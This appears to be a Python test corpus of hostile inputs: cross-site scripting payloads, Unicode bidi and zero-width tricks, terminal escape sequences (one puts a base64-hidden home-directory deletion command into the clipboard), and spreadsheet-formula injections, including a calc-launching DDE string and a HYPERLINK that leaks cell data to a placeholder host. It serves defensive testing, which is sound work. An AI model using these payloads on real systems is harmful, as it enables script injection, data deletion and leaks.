"""More than fifty texts that want to be more than text."""

from __future__ import annotations

MARK = "document.title='pwned'"

TAGS = [
    f"<script>{MARK}</script>",
    f"<ScRiPt >{MARK}</sCrIpT>",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</style><script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f'" onfocus="{MARK}" autofocus="',
    f"' onmouseover='{MARK}' '",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f"<iframe src=javascript:{MARK}></iframe>",
    f"<object data=javascript:{MARK}></object>",
    f"<embed src=javascript:{MARK}>",
    f"<a href=javascript:{MARK}>点我</a>",
    f"<form action=javascript:{MARK}><button>点我</button></form>",
    "<form action=https://example.org><input name=csrf><button>点我</button></form>",
    f"<math><mi xlink:href=javascript:{MARK}>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>",
    "<base href=https://example.org/>",
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<style>*{display:none}</style>",
    "<div style=position:fixed;inset:0;background:red>",
    "<!-- <main> -->",
    "<![CDATA[x]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 * 7 %>",
    f"javascript:{MARK}",
    "[点我](javascript:alert(1)) ![x](x onerror=alert(1))",
]

HIDDEN = [
    "\u202e反过来\u202c正过来",
    "\u2066隔离\u2069\u2067右\u2069",
    "零\u200b宽\u200c空\u200d格\ufeff\u2060",
    "软\u00ad连\u061c字\u180e符\u2028行\u2029段",
    "\x1b[31m红\x1b[0m \x1b]0;标题\x07 \x1b[2J",
    "空\x00字节\x08退格\x7f删除\x9b31m",
    "标签\U000e0041\U000e0042\U000e007f",
    "\x1b]8;;https://example.org\x1b\\点我\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07剪贴板\x1bP+q544e\x1b\\\x1b[6n",
    "\u009b31m八位\u009d0;标题\u009c",
    "真话\r假话",
    "access \u202e\u2066// 若是管理员\u2069 \u2066",
    "\u200eLRM\u200fRLM\u061cALM\u206a\u206f\ufff9",
]

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("https://example.org?x="&A1,"点我")',
    "\t=1+1",
    "\r=1+2",
    "\n=1+3",
    "  =1+4",
    "\u3000=1+5",
    "\u202e=1+6",
    "\ufeff=1+7",
    "\u200b=1+8",
    "＝1+9",
]

LONG = "长" * 3_400_000
"""More than ten megabytes in one line."""

TEXTS = [*TAGS, *HIDDEN, *FORMULAS, LONG]
